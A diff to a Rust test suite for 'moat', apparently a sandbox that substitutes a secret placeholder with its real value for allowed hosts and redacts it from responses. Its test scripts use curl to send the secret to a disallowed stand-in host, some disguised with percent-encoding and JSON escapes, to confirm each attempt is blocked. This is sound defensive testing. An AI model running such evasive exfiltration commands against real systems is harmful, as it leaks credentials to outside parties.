@@ -1,6 +1,8 @@
-//! Secrets end to end: the sandbox holds only a placeholder; a placeholder heading for a
-//! host outside its secret's list never arrives, in any form, and each violation action
-//! does what it says. (Substituting the value for allowed hosts is the next step.)
+//! Secrets end to end: the sandbox holds only a placeholder; on intercepted TLS to an
+//! allowed host moat puts the value in its place (URL, headers, Basic credentials, bodies,
+//! chunked, HTTP/2) and takes it out of what comes back; a placeholder heading for a host
+//! outside its secret's list never arrives, in any form, and each violation action does
+//! what it says.
 #![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a panic is the failure report.
 
 use std::process::Output;
@@ -16,13 +18,23 @@ const VALUE: &str = "sk-live-REALVALUE-7f3a9c";
 /// `moat run` with secret API_KEY allowed to api.example.test, the world's DNS and an
 /// audit log, running `script`; the output and the audit events.
 fn run(w: &World, extra: &[&str], script: &str) -> (Output, Vec<Value>, String) {
+    run_valued(w, VALUE, extra, script)
+}
+
+/// [`run`] with `value` as the secret's value.
+fn run_valued(
+    w: &World,
+    value: &str,
+    extra: &[&str],
+    script: &str,
+) -> (Output, Vec<Value>, String) {
     let audit = w.dir.join(format!(
         "secret-audit-{}.jsonl",
         std::process::id() ^ script.len() as u32
     ));
     let _ = std::fs::remove_file(&audit);
     let mut cmd = w.in_host(moat_bin());
-    cmd.env("API_KEY", VALUE).args([
+    cmd.env("API_KEY", value).args([
         "run",
         "--audit",
         audit.to_str().unwrap(),
@@ -295,4 +307,291 @@ PY
         w.log()
     );
     assert!(violations(&events).is_empty(), "{events:?}");
+}
+
+/// The flags that intercept the world's HTTPS echo (8443) and HTTP/2 echo (8445), trusting
+/// the world's CA.
+fn intercepting(w: &World) -> Vec<String> {
+    let ca = w.dir.join("world-ca.pem");
+    [
+        "--tls-intercept",
+        "--tls-port",
+        "8443",
+        "--tls-port",
+        "8445",
+        "--tls-upstream-ca",
+        ca.to_str().unwrap(),
+    ]
+    .map(str::to_owned)
+    .to_vec()
+}
+
+/// The world's log entry for the request whose path starts with `path`.
+fn arrived(w: &World, path: &str) -> Value {
+    w.log()
+        .into_iter()
+        .find(|l| l["path"].as_str().is_some_and(|p| p.starts_with(path)))
+        .unwrap_or_else(|| panic!("nothing arrived at {path}: {:?}", w.log()))
+}
+
+fn header<'a>(entry: &'a Value, name: &str) -> Option<&'a str> {
+    entry["headers"]
+        .as_array()?
+        .iter()
+        .find_map(|h| (h[0].as_str()?.eq_ignore_ascii_case(name)).then(|| h[1].as_str())?)
+}
+
+fn swapped(events: &[Value], what: &str) -> usize {
+    events
+        .iter()
+        .filter(|e| e["event"] == "secret" && e["secret"] == what)
+        .count()
+}
+
+#[test]
+fn the_value_arrives_at_its_host_in_every_place_and_never_comes_back() {
+    let w = World::new();
+    let script = r#"
+p="$API_KEY"
+u=https://api.example.test:8443
+curl -sS -m 10 -H "X-Key: $p" "$u/header"; echo
+curl -sS -m 10 "$u/query?key=$p&x=1"; echo
+curl -sS -m 10 -H 'Content-Type: application/json' --data "{\"key\":\"$p\"}" "$u/json"; echo
+curl -sS -m 10 -H 'Transfer-Encoding: chunked' --data-binary "{\"key\":\"$p\",\"again\":\"$p\"}" "$u/chunked"; echo
+curl -sS -m 10 -u "me:$p" "$u/basic"; echo
+curl -sS -m 10 -D - -H "X-Key: $p" "$u/echo-header"; echo
+curl -sS -m 10 "$u/chunked-answer?key=$p"; echo
+echo "placeholder=$p"
+"#;
+    let extra = intercepting(&w);
+    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
+    let (out, events, audit) = run(&w, &extra, script);
+    let text = stdout(&out);
+    let err = stderr(&out);
+    assert!(out.status.success(), "{text}\n{err}");
+    let placeholder = text
+        .lines()
+        .find_map(|l| l.strip_prefix("placeholder="))
+        .unwrap_or_else(|| panic!("{text}"))
+        .to_owned();
+    // What arrived carries the value where the placeholder was, and never the placeholder.
+    assert_eq!(header(&arrived(&w, "/header"), "X-Key"), Some(VALUE));
+    assert_eq!(
+        arrived(&w, "/query")["path"],
+        format!("/query?key={VALUE}&x=1")
+    );
+    let json = arrived(&w, "/json");
+    assert_eq!(json["body"], format!("{{\"key\":\"{VALUE}\"}}"));
+    assert_eq!(json["body_len"], VALUE.len() + 10);
+    let chunked = arrived(&w, "/chunked");
+    assert_eq!(
+        chunked["body"],
+        format!("{{\"key\":\"{VALUE}\",\"again\":\"{VALUE}\"}}")
+    );
+    let basic = arrived(&w, "/basic");
+    let expected = format!("me:{VALUE}");
+    let got = header(&basic, "Authorization").unwrap();
+    let decoded = String::from_utf8(
+        std::process::Command::new("sh")
+            .args(["-c", &format!("printf %s '{}' | base64 -d", &got[6..])])
+            .output()
+            .unwrap()
+            .stdout,
+    )
+    .unwrap();
+    assert_eq!(decoded, expected, "{got}");
+    for entry in w.log() {
+        assert!(
+            !entry.to_string().contains(&placeholder),
+            "the placeholder arrived: {entry}"
+        );
+    }
+    // What came back (the echo of the value, in bodies, a chunked body and headers) shows
+    // the placeholder to the sandbox.
+    assert!(!text.contains(VALUE), "the value came back: {text}");
+    assert!(
+        text.to_ascii_lowercase()
+            .contains(&format!("x-echo-x-key: {placeholder}")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("\"path\": \"/chunked-answer?key={placeholder}\"")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("{{\\\"key\\\":\\\"{placeholder}\\\"}}")),
+        "{text}"
+    );
+    // Audited once per connection and kind, never with the value.
+    assert_eq!(swapped(&events, "substituted"), 7, "{events:?}");
+    assert!(swapped(&events, "redacted") >= 6, "{events:?}");
+    assert!(violations(&events).is_empty(), "{events:?}");
+    for (what, haystack) in [("audit log", &audit), ("stderr", &err), ("stdout", &text)] {
+        assert!(!haystack.contains(VALUE), "the value is in moat's {what}");
+    }
+}
+
+#[test]
+fn over_http2_headers_and_data_carry_the_value_and_windows_stay_right() {
+    let mut w = World::new();
+    w.start_h2_echo();
+    // A value longer than the placeholder (flow control owes the sandbox) in a short
+    // exchange; then the shorter one in a 200 KiB body that fills windows many times over
+    // (moat gives the difference back).
+    let long_value = "sk-live-A-VALUE-LONGER-THAN-ITS-PLACEHOLDER-0123456789abcdef";
+    let script = r#"
+p="$API_KEY"
+curl -sS -m 10 --http2 -D - -H "X-Key: $p" -H 'Content-Type: application/json' --data "{\"k\":\"$p\"}" "https://api.example.test:8445/h2-small?key=$p"; echo
+echo "placeholder=$p"
+"#;
+    let extra = intercepting(&w);
+    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
+    let (out, events, audit) = run_valued(&w, long_value, &extra, script);
+    let text = stdout(&out);
+    assert!(out.status.success(), "{text}\n{}", stderr(&out));
+    let placeholder = text
+        .lines()
+        .find_map(|l| l.strip_prefix("placeholder="))
+        .unwrap_or_else(|| panic!("{text}\n{}", stderr(&out)))
+        .to_owned();
+    let small = arrived(&w, "/h2-small");
+    assert_eq!(small["server"], "h2");
+    assert_eq!(header(&small, "x-key"), Some(long_value));
+    assert_eq!(
+        header(&small, ":path"),
+        Some(format!("/h2-small?key={long_value}").as_str())
+    );
+    assert_eq!(small["body"], format!("{{\"k\":\"{long_value}\"}}"));
+    assert!(
+        text.contains(&format!("x-echo-x-key: {placeholder}")),
+        "{text}"
+    );
+    assert!(
+        !text.contains(long_value) && !audit.contains(long_value),
+        "{text}"
+    );
+    assert!(swapped(&events, "substituted") >= 1 && swapped(&events, "redacted") >= 1);
+
+    let script = r#"
+p="$API_KEY"
+python3 -c "import sys; sys.stdout.write('x' * 100 + ('[' + sys.argv[1] + ']') * 5000)" "$p" > /tmp/big.txt
+curl -sS -m 20 --http2 --data-binary @/tmp/big.txt -o /tmp/answer.json "https://api.example.test:8445/h2-big"; echo "exit=$?"
+echo "echoed=$(grep -o "$p" /tmp/answer.json | wc -l)"
+head -c 400 /tmp/answer.json
+"#;
+    let (out, _, audit) = run(&w, &extra, script);
+    let text = stdout(&out);
+    assert!(text.contains("exit=0"), "{text}\n{}\n{audit}", stderr(&out));
+    // The answer echoed the value ~150 times in its first 4 KiB: the sandbox read the
+    // placeholder each time.
+    let echoed: usize = text
+        .lines()
+        .find_map(|l| l.strip_prefix("echoed="))
+        .and_then(|n| n.trim().parse().ok())
+        .unwrap_or(0);
+    assert!(echoed > 100, "{text}");
+    assert!(!text.contains(VALUE), "{text}");
+    let big = arrived(&w, "/h2-big");
+    let body = big["body"].as_str().unwrap();
+    // The echo shows the first 64 KiB: the value throughout, no placeholder.
+    assert!(
+        body.starts_with(&format!("{}[{VALUE}][{VALUE}]", "x".repeat(100))),
+        "{}",
+        &body[..200]
+    );
+    assert!(!body.contains("moat_"));
+}
+
+#[test]
+fn a_host_is_allowed_only_when_its_name_and_its_lookup_agree() {
+    let w = World::new();
+    // The name is right but moat's DNS never answered it (--resolve): the address is not
+    // known to be the host's, so the placeholder is a violation and nothing arrives.
+    let script = "curl -sS -m 10 -o /dev/null --resolve api.example.test:8443:203.0.113.10 \
+                  \"https://api.example.test:8443/unresolved?k=$API_KEY\"; echo \"exit=$?\"; \
+                  curl -sS -m 10 -o /dev/null --resolve api.example.test:8443:203.0.113.10 \
+                  https://api.example.test:8443/unresolved-control; echo \"exit=$?\"";
+    let extra = intercepting(&w);
+    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
+    let (out, events, _) = run(&w, &extra, script);
+    assert!(
+        w.log().iter().any(|l| l["path"] == "/unresolved-control"),
+        "{}\n{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    assert!(
+        !w.log().iter().any(|l| l["path"]
+            .as_str()
+            .is_some_and(|p| p.starts_with("/unresolved?"))),
+        "{:?}",
+        w.log()
+    );
+    assert_eq!(violations(&events).len(), 1, "{events:?}");
+    // Plain HTTP to the right host without allow_plain_http: a violation too.
+    let (_, events, _) = run(
+        &w,
+        &[],
+        "curl -sS -m 10 -o /dev/null \"http://api.example.test:8080/plain?k=$API_KEY\"; echo",
+    );
+    assert_eq!(violations(&events).len(), 1, "{events:?}");
+    assert!(
+        !w.log()
+            .iter()
+            .any(|l| l["path"].as_str().is_some_and(|p| p.starts_with("/plain")))
+    );
+}
+
+#[test]
+fn over_intercepted_tls_every_form_to_another_host_is_stopped() {
+    let mut w = World::new();
+    w.start_h2_echo();
+    let script = r#"
+p="$API_KEY"
+pct=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/%\1/g')
+json=$(printf '%s' "$p" | od -An -tx1 | tr -d ' \n' | sed 's/\(..\)/\\u00\1/g')
+u=https://other.example.test:8443
+try() { curl -sS -m 10 -o /dev/null "$@"; echo "exit=$?"; }
+try -H "X-Key: $p" "$u/t-header"
+try "$u/t-pct?k=$pct"
+try -u "me:$p" "$u/t-basic"
+try -H 'Content-Type: application/json' --data "{\"k\":\"$json\"}" "$u/t-json"
+try -H 'Transfer-Encoding: chunked' --data-binary "{\"k\":\"$p\"}" "$u/t-chunked"
+try --http2 -H "X-Key: $p" "https://other.example.test:8445/t-h2-header"
+try --http2 --data "{\"k\":\"$p\"}" "https://other.example.test:8445/t-h2-data"
+try "$u/t-control"
+try --http2 "https://other.example.test:8445/t-h2-control"
+"#;
+    let extra = intercepting(&w);
+    let extra: Vec<&str> = extra.iter().map(String::as_str).collect();
+    let (out, events, _) = run(&w, &extra, script);
+    let paths: Vec<String> = w
+        .log()
+        .iter()
+        .filter_map(|l| l["path"].as_str().map(str::to_owned))
+        .collect();
+    for control in ["/t-control", "/t-h2-control"] {
+        assert!(
+            paths.iter().any(|p| p == control),
+            "{control}: {paths:?}\n{}\n{}",
+            stdout(&out),
+            stderr(&out)
+        );
+    }
+    for path in [
+        "/t-header",
+        "/t-pct",
+        "/t-basic",
+        "/t-json",
+        "/t-chunked",
+        "/t-h2-header",
+        "/t-h2-data",
+    ] {
+        assert!(
+            !paths.iter().any(|p| p.starts_with(path)),
+            "{path}: {paths:?}"
+        );
+    }
+    assert_eq!(violations(&events).len(), 7, "{events:?}");
+    assert!(!w.log().iter().any(|l| l.to_string().contains("moat_")));
 }
